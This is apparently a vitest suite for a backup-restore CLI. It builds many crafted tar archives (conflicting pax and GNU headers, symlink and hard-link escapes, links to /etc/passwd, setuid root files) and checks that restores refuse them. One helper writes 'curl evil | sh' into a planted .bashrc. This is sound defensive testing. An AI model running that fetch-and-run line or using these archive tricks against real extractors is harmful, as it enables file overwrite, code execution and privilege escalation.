import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, tempDir } from '../helpers/cli.js';
import { gnuTar, plantMultiSet, pythonTar, writeFiles } from '../helpers/hostile-writers.js';
import { makeUser, snapshotTree } from '../helpers/tree.js';

const A = 'data/users/alice';
const B = 'data/users/bob';
/** A clean archive for bob from Python's tarfile: restored together with each hostile one for alice. */
const BOB = () => pythonTar(`tf(lambda t: (member(t, '${B}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${B}/notes.txt', 'bob')))`);
const sparseSrc = (src: string) => {
  fs.mkdirSync(path.join(src, B), { recursive: true });
  fs.writeFileSync(path.join(src, B, '.bashrc'), 'x');
  fs.truncateSync(path.join(src, B, '.bashrc'), 4 << 20);
  fs.appendFileSync(path.join(src, B, '.bashrc'), 'curl evil | sh\n');
};

/** [name, archive for alice]: each renames, retypes or re-owns a member for one reader but not the other. */
const CORPUS: [string, () => Buffer][] = [
  // Python's tarfile with arbitrary pax keys.
  ['pax GNU.sparse.name renames a member into bob', () => pythonTar(`tf(lambda t: member(t, '${A}/ok.txt', pax_headers={'GNU.sparse.name': '${B}/.bashrc'}))`)],
  ['pax sparse 1.0 keys (major/minor/name/realsize)', () => pythonTar(`tf(lambda t: member(t, '${A}/ok.txt', pax_headers={'GNU.sparse.major': '1', 'GNU.sparse.minor': '0', 'GNU.sparse.name': '${B}/.bashrc', 'GNU.sparse.realsize': '1'}))`)],
  ['pax sparse 0.1 keys', () => pythonTar(`pax([('GNU.sparse.offset', '0'), ('GNU.sparse.numbytes', '1'), ('GNU.sparse.name', '${B}/s01'), ('GNU.sparse.size', '1')]) + file('${A}/s.txt') + end()`)],
  ['global pax header (g) with a path', () => pythonTar(`tf(lambda t: member(t, '${A}/ok.txt'), pax_headers={'path': '${B}/.profile'})`)],
  ['pax header over 1 MiB (one reader skips it)', () => pythonTar(`pax([('comment', 'c' * (1100 * 1024)), ('path', '${B}/big.txt')]) + file('${A}/b.txt') + end()`)],
  ['duplicate pax path keys', () => pythonTar(`pax([('path', '${A}/a.txt'), ('path', '${B}/dup.txt')]) + file('${A}/a.txt') + end()`)],
  ['two pax headers in a row', () => pythonTar(`pax([('path', '${A}/xx.txt')]) + pax([('path', '${B}/xx.txt')]) + file('${A}/h.txt') + end()`)],
  ['GNU L long name disagreeing with pax path', () => pythonTar(`pax([('path', '${A}/p.txt')]) + longname('${B}/long.txt') + file('${A}/h.txt') + end()`)],
  ['GNU K long link name disagreeing with pax linkpath', () => pythonTar(`file('${A}/t.txt') + longname('${B}/private.key', b'K') + pax([('linkpath', '${A}/t.txt')]) + hdr('${A}/hl', b'1', link='${A}/t.txt') + end()`)],
  ['NUL byte inside a pax path', () => pythonTar(`pax([('path', '${A}/ok\\0/../../bob/nul.txt')]) + file('${A}/n.txt') + end()`)],
  ['old GNU sparse member (type S)', () => pythonTar(`hdr('${A}/s.txt', b'S', 1, magic=b'ustar  \\0') + body('x') + end()`)],
  ['GNU volume header (type V)', () => pythonTar(`hdr('${B}/vol', b'V', 0, magic=b'ustar  \\0') + file('${A}/v.txt') + end()`)],
  ['GNU multivolume continuation (type M)', () => pythonTar(`hdr('${B}/m.txt', b'M', 1, magic=b'ustar  \\0') + body('x') + end()`)],
  ['GNU-format header whose prefix bytes hold a path', () => pythonTar(`hdr('x.txt', b'0', 1, magic=b'ustar  \\0', prefix=b'${B}') + body('x') + end()`)],
  ['a member after a lone zero block', () => pythonTar(`file('${A}/z.txt') + b'\\0' * 512 + file('${B}/after.txt') + end()`)],
  ['pax linkpath on a regular file', () => pythonTar(`pax([('linkpath', '/etc/passwd')]) + file('${A}/lp.txt') + end()`)],
  ['duplicate members (file, then symlink of the same name)', () => pythonTar(`tf(lambda t: (member(t, '${A}/x', 'x'), member(t, '${A}/x', type=tarfile.SYMTYPE, linkname='../bob/.bashrc')))`)],
  ['hard link to /etc/passwd', () => pythonTar(`tf(lambda t: member(t, '${A}/passwd', type=tarfile.LNKTYPE, linkname='/etc/passwd'))`)],
  ['hard link through ..', () => pythonTar(`tf(lambda t: member(t, '${A}/k', type=tarfile.LNKTYPE, linkname='${A}/../bob/notes.txt'))`)],
  ['symlink, then a file through it', () => pythonTar(`tf(lambda t: (member(t, '${A}/l', type=tarfile.SYMTYPE, linkname='../bob'), member(t, '${A}/l/pwned.txt')))`)],
  // Each symlink lexically inside alice/, but q really resolves to alice/z, so p's "../../.." climbs out.
  ['symlink chain that resolves outside (each link lexically inside)', () => pythonTar(`tf(lambda t: [member(t, d, type=tarfile.DIRTYPE, mode=0o755) for d in ('${A}', '${A}/x', '${A}/x/y', '${A}/z')] + [member(t, '${A}/x/y/q', type=tarfile.SYMTYPE, linkname='../../z'), member(t, '${A}/x/y/p', type=tarfile.SYMTYPE, linkname='q/../../../w')])`)],
  ['setuid root file', () => pythonTar(`tf(lambda t: (member(t, '${A}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${A}/sh', '#!/bin/sh', mode=0o4755, uid=0)))`)],
  ['setgid file', () => pythonTar(`tf(lambda t: (member(t, '${A}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${A}/sh', '#!/bin/sh', mode=0o2755, gid=0)))`)],
  // GNU tar as the writer.
  ['GNU tar --sparse --format=pax with the pax path overridden', () => gnuTar(sparseSrc, ['--format=pax', '--sparse', '--pax-option', `path:=${A}/ok.bin`, `${B}/.bashrc`])],
  ['GNU tar --format=gnu --sparse (type S)', () => gnuTar(sparseSrc, ['--format=gnu', '--sparse', `--transform=s,^${B},${A},`, `${B}/.bashrc`])],
  ['GNU tar --format=gnu long names into bob (--transform)', () => gnuTar((s) => writeFiles(s, { [`x/${'n'.repeat(120)}`]: 'x' }), ['--format=gnu', `--transform=s,^x,${B},`, 'x'])],
  ['GNU tar --format=pax into bob (--transform)', () => gnuTar((s) => writeFiles(s, { 'x/f.txt': 'x' }), ['--format=pax', `--transform=s,^x,${B},`, 'x'])],
  ['GNU tar hard link to bob (--transform)', () => gnuTar((s) => { writeFiles(s, { 'a': 'x' }); fs.linkSync(path.join(s, 'a'), path.join(s, 'b')); }, ['--format=pax', `--transform=s,^a$,${B}/notes.txt,`, `--transform=s,^b$,${A}/b,`, 'a', 'b'])],
  ['GNU tar volume label (type V)', () => gnuTar((s) => writeFiles(s, { [`${A}/v.txt`]: 'x' }), ['--format=gnu', '-V', `${B}/label`, `${A}/v.txt`])],
];

let root = '';
let outside = '';
let liveBefore: Record<string, string>;
beforeAll(() => {
  root = tempDir();
  outside = tempDir('scitex-outside-');
  expect(cli(['--root', root, 'init']).code).toBe(0);
  makeUser(path.join(root, 'data/users'), 'alice');
  makeUser(path.join(root, 'data/users'), 'bob', 2);
  liveBefore = snapshotTree(path.join(root, 'data'));
});
afterAll(() => {
  fs.rmSync(root, { recursive: true, force: true });
  fs.rmSync(outside, { recursive: true, force: true });
});

/** Live data (backups aside) exactly as before, nothing planted outside. */
function untouched(): void {
  const now = snapshotTree(path.join(root, 'data'));
  const strip = (s: Record<string, string>) => Object.fromEntries(Object.entries(s).filter(([k]) => !k.startsWith('db/backups') && !k.startsWith('.scitex-data.lock')));
  expect(strip(now)).toEqual(strip(liveBefore));
  expect(fs.readdirSync(outside)).toEqual([]);
  expect(fs.existsSync('/tmp/scitex-pwned')).toBe(false);
}

describe('restore users refuses archives that two tar readers read differently (other writers)', () => {
  it.each(CORPUS.map(([n, f], i) => [n, f, i] as const))('%s', (_name, build, i) => {
    const set = plantMultiSet(path.join(root, 'data/db/backups'), `20260401_${String(i).padStart(6, '0')}`, { alice: build(), bob: BOB() });
    try {
      const r = cli(['--root', root, 'restore', 'users', '--from', set, '--yes']);
      if (process.env.SHOW_MSG) console.log(`${_name}\n    ${r.stderr}`);
      expect([r.code, r.stderr]).toEqual([1, expect.stringMatching(/^error: (Refusing|Extracting) alice\.tar\.gz/)]);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      untouched();
    } finally {
      fs.rmSync(set, { recursive: true, force: true });
    }
  });

  it('control: clean archives from Python tarfile and GNU tar --format=pax restore (with --to)', () => {
    const alice = gnuTar((s) => writeFiles(s, { [`${A}/notes/a.txt`]: 'a', [`${A}/${'long-'.repeat(30)}.txt`]: 'long' }), ['--format=pax', '--numeric-owner', A]);
    const set = plantMultiSet(path.join(root, 'data/db/backups'), '20260402_000000', { alice, bob: BOB() });
    const to = path.join(os.tmpdir(), `scitex-to-${process.pid}`);
    try {
      const r = cli(['--root', root, 'restore', 'users', '--from', set, '--to', to, '--yes']);
      expect([r.code, r.stderr]).toEqual([0, '']);
      expect(fs.readFileSync(path.join(to, A, 'notes/a.txt'), 'utf8')).toBe('a');
      expect(fs.readFileSync(path.join(to, B, 'notes.txt'), 'utf8')).toBe('bob');
      untouched();
    } finally {
      fs.rmSync(set, { recursive: true, force: true });
      fs.rmSync(to, { recursive: true, force: true });
    }
  });
});

describe('restored workspaces keep their owners; an archive cannot hand a workspace to root', () => {
  const asRoot = process.getuid?.() === 0;
  let r2 = '';
  const C = 'data/users/carol';
  beforeAll(() => {
    if (!asRoot) return;
    r2 = tempDir();
    expect(cli(['--root', r2, 'init']).code).toBe(0);
    const home = makeUser(path.join(r2, 'data/users'), 'carol');
    // The app runs as an unprivileged user and owns data/, data/users and the workspace; some files
    // inside belong to uid 1000 (makeUser) and to root, as real trees do.
    fs.writeFileSync(path.join(home, 'root-owned.txt'), 'root\n');
    for (const p of ['data', 'data/users']) fs.chownSync(path.join(r2, p), 65534, 65534);
    const walk = (p: string) => {
      const st = fs.lstatSync(p);
      if (!p.endsWith('owned-by-1000.txt') && !p.endsWith('root-owned.txt')) fs.lchownSync(p, 65534, 65534);
      if (st.isDirectory()) for (const n of fs.readdirSync(p)) walk(path.join(p, n));
    };
    walk(home);
  });
  afterAll(() => {
    if (r2) fs.rmSync(r2, { recursive: true, force: true });
  });

  it('restore users (as root) gives back every owner: the workspace 65534, files of uid 1000 and root keep theirs', (ctx) => {
    if (!asRoot) ctx.skip();
    const before = snapshotTree(path.join(r2, C));
    expect(before['']).toBe('dir 755 65534:65534');
    expect(before['owned-by-1000.txt']).toMatch(/ 1000:1000 /);
    expect(before['root-owned.txt']).toMatch(/ 0:0 /);
    expect(cli(['--root', r2, 'backup', 'users']).code).toBe(0);
    // Gone (the incident), then damaged in place: both come back with the same owners.
    fs.rmSync(path.join(r2, C), { recursive: true });
    let r = cli(['--root', r2, 'restore', 'users', '--user', 'carol', '--yes']);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(snapshotTree(path.join(r2, C))).toEqual(before);
    fs.writeFileSync(path.join(r2, C, 'run.sh'), 'damaged');
    r = cli(['--root', r2, 'restore', 'users', '--user', 'carol', '--yes']);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(snapshotTree(path.join(r2, C))).toEqual(before);
  });

  it.each([
    ['a workspace handed to root', `member(t, '${C}', type=tarfile.DIRTYPE, mode=0o755, uid=0, gid=0)`, /would belong to 0:0, who owns no app data here/],
    ['a setuid file of the app user', `member(t, '${C}', type=tarfile.DIRTYPE, mode=0o755, uid=65534, gid=65534), member(t, '${C}/sh', '#!/bin/sh', mode=0o4755, uid=65534, gid=65534)`, /setuid/],
    ['a workspace without its own directory entry (tar would invent it, owned by root)', `member(t, '${C}/notes.txt', 'x', uid=65534, gid=65534)`, /no entry for data\/users\/carol/],
  ])('%s is refused', (_n, members, reason, ctx) => {
    if (!asRoot) ctx.skip();
    const before = snapshotTree(path.join(r2, 'data/users'));
    const set = plantMultiSet(path.join(r2, 'data/db/backups'), '20260501_000000', { carol: pythonTar(`tf(lambda t: (${members},))`) });
    try {
      const r = cli(['--root', r2, 'restore', 'users', '--from', set, '--yes']);
      expect([r.code, r.stderr]).toEqual([1, expect.stringMatching(reason)]);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(snapshotTree(path.join(r2, 'data/users'))).toEqual(before);
    } finally {
      fs.rmSync(set, { recursive: true, force: true });
    }
  });
});
